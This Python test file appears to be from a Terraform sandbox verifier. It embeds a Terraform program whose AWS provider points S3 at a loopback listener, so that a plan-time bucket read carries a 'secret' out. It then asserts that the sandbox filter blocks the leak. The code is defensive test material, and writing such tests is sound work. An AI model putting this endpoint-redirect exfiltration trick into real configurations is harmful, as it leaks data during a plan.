"""The proof of the filter's worth: hostile code planned by hand reaches a listener only where the filter is off.

The program goes to terraform as it is: no denial, no normalisation. Its provider block points S3 at a listener of
ours on loopback, which no network policy of any cluster would stop.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from loraform_verifier.hcl.normalise import Normalised
from loraform_verifier.sandbox import isolation
from loraform_verifier.terraform.toolchain import Terraform, child_environment
from loraform_verifier.terraform.workspace import lay_out_alone

from .listening import Listeners

PROGRAM = """provider "aws" {
  region                      = "us-east-1"
  access_key                  = "fake"
  secret_key                  = "fake"
  max_retries                 = 1
  s3_use_path_style           = true
  skip_credentials_validation = true
  skip_requesting_account_id  = true
  skip_metadata_api_check     = true
  endpoints {
    s3 = "http://127.0.0.1:%d"
  }
}

data "aws_s3_bucket" "stolen" {
  bucket = "a-name-that-carries-a-secret"
}
"""


@pytest.fixture
def listener() -> Iterator[Listeners]:
    started = Listeners()
    yield started
    started.close()


def plan(terraform: Terraform, folder: Path, port: int, *, filtered: bool) -> isolation.Finished:
    text = (PROGRAM % port).encode()
    lay_out_alone(folder, terraform, Normalised({"main.tf": text}, frozenset(), alone=True))
    command = [str(terraform.binary), "plan", "-input=false", "-no-color", "-lock=false"]
    env, readable = child_environment(folder), terraform.readable
    return isolation.run(command, cwd=folder, env=env, seconds=180, readable=readable, filtered=filtered)


def test_under_the_filter_a_listener_hears_nothing(terraform: Terraform, tmp_path: Path, listener: Listeners) -> None:
    finished = plan(terraform, tmp_path, listener.port, filtered=True)
    assert listener.heard() == []
    assert finished.returncode == 1
    assert b"reading S3 Bucket (a-name-that-carries-a-secret)" in finished.stderr  # it did try


def test_with_the_filter_off_it_hears_the_secret(terraform: Terraform, tmp_path: Path, listener: Listeners) -> None:
    finished = plan(terraform, tmp_path, listener.port, filtered=False)
    assert b"a-name-that-carries-a-secret" in b"".join(listener.heard())
    assert finished.returncode == 1
